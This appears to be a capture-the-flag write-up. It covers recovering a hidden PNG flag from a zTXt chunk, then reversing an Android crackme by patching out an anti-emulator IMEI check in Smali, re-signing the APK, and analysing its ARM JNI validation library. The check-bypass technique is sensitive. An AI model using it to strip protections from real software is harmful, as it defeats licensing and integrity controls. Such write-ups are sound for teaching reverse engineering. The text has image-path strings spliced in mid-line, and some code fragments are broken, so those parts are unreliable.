As the image can beopen with several editors, some others won't because of the latest chunk's checksum. Nevertheless, we can see our old Chuck Norris and only half of the flag.



So at this time we have the first part of the flag...

The wrong checksum of the last IDAT is probably a good clue to get the second part of the flag.
At the end of the file, we can see above IEND chunk a ...zTX3..., maybe a zTXt chunk ? Let's give it a try...

The length will be 27 bytess, 0x1B.
We also changed the length of the last IDAT chunk, 5705 - 27 - 12 =5666 that's to say 0x1622.

Excellent, this time no more problem with checksums.

$ pngcheck -vt7f unknown.bin.png
  chunk IDAT at offset 0x11e723, length 5666
  chunk zTXt at offset 0x11fd51, length 27:   keyword has control characters, keyword:x\DA\D3\D3C\05\96\A9\06\C9\16\A6I\86\86i\89I\A6\A6\C9f
    (compressed zTXt text)
  zTXt chunk contains one or more control characters
  chunk IEND at offset 0x11fd78, length 0

Then let's decompress the string with zlib.

import zlib
print zlib.decompress("78 DA D3 D3 43 05 96 A9 06 C9 16 A6 49 86 86 69 89 49 A6 A6 C9 66 00 6D 17 07 6F".replace(" ","").decode("hex"))


w3ll done

NDH2k12-wargame Write-up CrackMe AndroidFile : NDH.apk

We were asked to reverse an Android application, coming as an APK file.

The first move was to get the Java source of that application with dex2jar in order to decompile the APK into a plain JAR file.

If you ever want more information about this step, check out that link

Once we have the JAR file, we opened it with JD-GUI and located the main Activity, that is to say the entry point of an application.

Here's the code :

import android.content.DialogInterface;
import android.content.DialogInterface.OnClickListener;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.text.Editable;
import android.view.View;
import android.view.View.OnClickListener;
import android.widget.Button;
import android.widget.EditText;
import android.widget.TableLayout;
import android.widget.TextView;
public class NDHActivity extends Activity
  private native String print(String paramString);
  public void onCreate(Bundle paramBundle)
    TextView localTextView = new TextView(this);
    localTextView.setText("Enter the code to activate this software :");
    AlertDialog.Builder localBuilder1 = new AlertDialog.Builder(this);
    AlertDialog.Builder localBuilder2 =localBuilder1.setCancelable(false);
    1 local1 = new DialogInterface.OnClickListener()
      public void onClick(DialogInterface paramDialogInterface, int paramInt)
    AlertDialog.Builder localBuilder3 = localBuilder1.setPositiveButton("OK", local1);
    EditText localEditText = new EditText(this);
    Button localButton = new Button(this);
    TelephonyManager localTelephonyManager = (TelephonyManager)getSystemService("phone");
    2 local2 = new View.OnClickListener(localTelephonyManager, localBuilder1, localEditText)
      public void onClick(View paramView)if (Integer.decode(this.val$test.getDeviceId()).intValue() == 0)
          AlertDialog.Builder localBuilder1 = this.val$builder.setMessage("Bad Password");
        while (true)
          AlertDialog.Builder localBuilder2 = this.val$builder;
          NDHActivity localNDHActivity = NDHActivity.this;
          String str1 = this.val$tv2.getText().toString();
          String str2 = localNDHActivity.print(str1);
          AlertDialog.Builder localBuilder3 =localBuilder2.setMessage(str2);
    TableLayout localTableLayout = new TableLayout(this);

Before going any further with that code, we wanted it to be running on a Android emulator and we had to patch few things.

This time, we completely disassembled the APK with apktool. This tool is BakSmaling (disassembling) the compiled code whose assembly representation is called Smali and unpacking all the files contained in an APK (certificates, libs etc.).
It also disassembles the graphical resources files and the AndroidManifest.xml file, which lists all the required settings for an application to run (platform version, permissions etc.).

android@honeynet:~/tools/apktool$ apktool d ~/ndh/NDH.apk ~/ndh/NDH_Decomp
I: Baksmaling...
I: Loading resource table...I: Loaded.
I: Loading resource table from file: /home/android/apktool/framework/1.apk
I: Loaded.
I: Decoding file-resources...
I: Decoding values*/* XMLs...
I: Done.
I: Copying assets and libs...

Here's the AndroidManifest.xml :

<?xml version="1.0" encoding="utf-8"?>
<manifest android:versionCode="1" android:versionName="1.0" package=""
    <uses-sdk android:minSdkVersion="15" />
    <uses-permission android:name="android.permission.READ_PHONE_STATE" />
    <application android:label="@string/app_name" android:icon="@drawable/ndh"><activity android:label="@string/app_name" android:name=".NDHActivity">
                <action android:name="android.intent.action.MAIN" />
                <category android:name="android.intent.category.LAUNCHER" />

That manifest requires Android 4.0.3 (API 15) as minimum SDK version. Having a 2.3.3 (API 10) emulator, we just removed that line in the Manifest.

Now, let's go back into the code.

Just by reading the source, we're aware that this application graphically consists of a EditText (a textbox) and a Button. So basically, we have to enter an activation code and hit the button for it to be checked.Once hit, the first check is :

if (Integer.decode(this.val$test.getDeviceId()).intValue() == 0)
    AlertDialog.Builder localBuilder1 = this.val$builder.setMessage("Bad Password");

To be read as : if the IMEI of the terminal equals 0, then always display "Bad Password", whatever activation code you typed (even the good one :)).

As the emulated terminals have no real IMEI, this value is set to 0. This first check is actually an anti-emulator feature :)

In order to remove that check, we had to directly patch the Smali code. Here's theoriginal Smali section, in the NDH_Decomp/smali/com/app/ndh/NDHActivity$2.smali file :

iget-object v1, p0, Lcom/app/ndh/NDHActivity$2;->val$test:Landroid/telephony/TelephonyManager;
; Grab the terminal's IMEI
invoke-virtual {v1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
move-result-object v1
; Decode it as an integer value
invoke-static {v1}, Ljava/lang/Integer;->decode(Ljava/lang/String;)Ljava/lang/Integer;
move-result-object v1
invoke-virtual {v1}, Ljava/lang/Integer;->intValue()I
move-result v1
; if (v1 == IMEI) != 0 then jump to the cond_0 label (the legit "while(true){}" section), else print "Bad Password"
if-nez v1, :cond_0
iget-object v1, p0, Lcom/app/ndh/NDHActivity$2;->val$builder:Landroid/app/AlertDialog$Builder;
const-string v2, "Bad Password"

We simply transformed the conditional jump "if-nez v1, :cond_0" to a unconditional jump, that's to say : "goto :cond_0"

Having both the Smali code and the Manifest patched, we rebuilt the application with apktool :

android@honeynet:~/tools/apktool$ apktool b ~/ndh/NDH_Decomp ~/ndh/New_NDH.apk
I: Checking whether sources has changed...
I: Checking whether resources has changed...
I: Building apk file...

Still, we needed to sign the application, as the emulator won't install an unsigned APK. Here comes the signingcommand, with a self-signed certificate :

android@honeynet:~/tools/apktool$ jarsigner -verbose -sigalg MD5withRSA -digestalg SHA1 -keystore /home/android/my-release-key.keystore -storepass my_pass ~/ndh/New_NDH.apk maz
  adding: META-INF/MAZ.SF
  adding: META-INF/MAZ.RSA
  signing: lib/armeabi/
  signing: res/drawable-hdpi/ic_launcher.png
  signing: res/drawable-hdpi/ndh.png
  signing: res/drawable-ldpi/ic_launcher.png
  signing: res/drawable-ldpi/ndh.png
  signing: res/drawable-mdpi/ic_launcher.png
  signing: res/drawable-mdpi/ndh.png
  signing: res/drawable-xhdpi/ic_launcher.png
  signing: res/drawable-xhdpi/ndh.pngsigning: res/layout/main.xml
  signing: AndroidManifest.xml
  signing: classes.dex
  signing: resources.arsc

The patched APK can be found here. So now we can install and execute that application on an emulator.


Let's reverse that crackme ! Going back into the code, we have those 3 code sections:private native String print(String paramString);
NDHActivity localNDHActivity = NDHActivity.this;
String str1 = this.val$tv2.getText().toString();
String str2 = localNDHActivity.print(str1);
AlertDialog.Builder localBuilder3 = localBuilder2.setMessage(str2);

While the first instruction loads a native library, a .so file written in C and compiled with the NDK (Native Development Kit), the second stands for the declaration of the native method, here called "print".

The last part indicates that the text from the EditText element is passed to the native "print" method and its result is then displayed in a popup.

All in all, the validation routine is contained in that lib.

Thus, the next step was to reverse the "" file.
As said, apktool unpacked every file in the APK.

android@honeynet:~/ndh/NDH_Decomp$ file lib/armeabi/
lib/armeabi/ ELF 32-bit LSB shared object, ARM, version 1 (SYSV), dynamically linked, stripped

Let's start by opening libverifyPass in IDA.
In the "Strings" window, we only have two strings : "Bad password" & "Good password, this is the flag too".
Those two strings are only referenced in one function : "Java_com_app_ndh_NDHActivity_print", which is the function called from the Java source.
Here is a global view of this function :


We can split it in a few basic blocks :

  • purple : initialization
  • yellow : main loop
  • blue : final tests• red : fail (references "bad password")
  • green : success (references "Good password")

Before going any further, let's see a few specific details of the JNI (Java Native Interface) :

.text:00000F68                 STR     R0, [SP,#0x140+ptr_vtable_like]
.text:00000F6A                 STR     R1, [SP,#0x140+not_used]
.text:00000F6C                 STR     R2, [SP,#0x140+user_string]

We can see in the above snippet of the initialization block, that the function takes 3 parameters (in R0-R2) that are immediatly saved in local variables on the stack. But the Java source only use oneargument, so the first two must be implicit arguments from the JNI.

The second is unused, but the first is used like a pointer on a vtable in C++, containing some function pointers used to do virtual calls, as in the following snippet :

.text:00000F78                 LDR     R2, [R3]                             ; Address of the "vtable-like" in R2
.text:00000F7A                 MOVS    R3, 0x2A4                            ; Offset = 0x2A4
.text:00000F7E                 LDR     R3, [R2,R3]                          ; Address of the "virtual function"
.text:00000F80                 LDR     R1, [SP,#0x140+ptr_vtable_like]
.text:00000F82                 LDR     R2, [SP,#0x140+user_string]
.text:00000F84                 MOVS    R0, R1                               ; Arg 1 -> our pointer
.text:00000F86                 MOVS    R1, R2                               ; Arg 2 -> our string
.text:00000F88                 MOVS    R2, #0                           ; Arg 3
.text:00000F8A                 BLXR3                                   ; "virtual call"

As explained in the wiki page, this is how the JNI works. All functions take a JNIEnv pointer as first parameter, which is a structure containing pointers to all the required method to interface with the JVM :

/* Example of a JNI function, taking a JNIEnv pointer as first parameter */
JNIEXPORT void JNICALLJava_ClassName_MethodName(JNIEnv *env, jobject obj, jstring javaString)
    /* Example of a function call, using a function pointer in JNIEnv */
    const char *nativeString = (*env)->GetStringUTFChars(env, javaString, 0);

Our program use this type of call 3 times, with the indexes 0x2A4, 0x290 and 0x29C. To retreive the names of the corresponding fonctions, we can use directly the header file jni.h or this documentation which contains the indexes in the JNIEnv interface function table :

0x24A / 4 = 169 --> const jbyte* GetStringUTFChars(JNIEnv *env, jstring string, jboolean *isCopy);
0x290 / 4 = 164 --> jsize GetStringLength(JNIEnv *env, jstring string);
0x29C / 4 = 167 --> jstring NewStringUTF(JNIEnv *env, const char *bytes);We can now analyse our routine with a full knowledge of which function it's using :)
Starting with the end (the blue "final tests" block), we can see that the block doesn't really test anything on the supplied string, except that the result of a previous call to "GetStringLength" must equals 0xC.
Besides, there's justsome really basic anti debug trick here : a call to difftime() is made, with the return values of two calls to time() before and after the main loop, and the result is tested against a hardcoded double value, that it must not exeed (R2=0x00000000 R3=0x3FF00000, so our maximum value is 1.0, but we really don' care since we are doing this in static analysis :p)

So let's skip to the interesting part. In the initialization block, two counters are set to 0, and a call to GetStringLength is made (but not directly tested).

.text:00000FFE                 MOVS    R3, #0
.text:00001000                 STR     R3, [SP,#0x140+counter1]
.text:00001002                 MOVS    R3, #0
.text:00001004                 STR     R3, [SP,#0x140+counter2]More important, some structures in the .rodata section are loaded into the stack, as we can see in the following snippet :

.text:00000F9A                 ADD     R3, SP, #0x140+loaded_27E0       ; R3 = stack buffer
.text:00000F9C                 LDR     R2, =(dword_27E0 - 0xFA2)            ; R2 = rodata buffer
.text:00000F9E                 ADD     R2, PC
.text:00000FA0                 LDMIA   R2!, {R0,R1,R5}                  ; Load from R2 into multiple registers (R0, R1 and R5), and increment R2
.text:00000FA2                 STMIA   R3!, {R0,R1,R5}                  ; Store to R3 from multiple registers, and increment R3
.text:00000FA4                 LDMIA   R2!, {R0,R1,R5}
.text:00000FA6                 STMIA   R3!, {R0,R1,R5}
.text:00000FA8                 LDMIA   R2!, {R0,R1,R5}
.text:00000FAA                 STMIA   R3!, {R0,R1,R5}
.text:00000FAC                 LDMIA   R2!, {R0,R1,R5}
.text:00000FAE                 STMIA   R3!, {R0,R1,R5}

Using R0, R1, and R5, and repeating LDMIA/STMIA 4 times, we can see that this code loads 12 dwords. And there are 5 blocks like this one. The last action of the initialization block is to load the first char of our string somewhere in the stack (SP+0x20+0xFF) :

.text:00000FF2                 MOV     R3, SP                       ; stack
.text:00000FF4                 ADDS    R3, #0x20
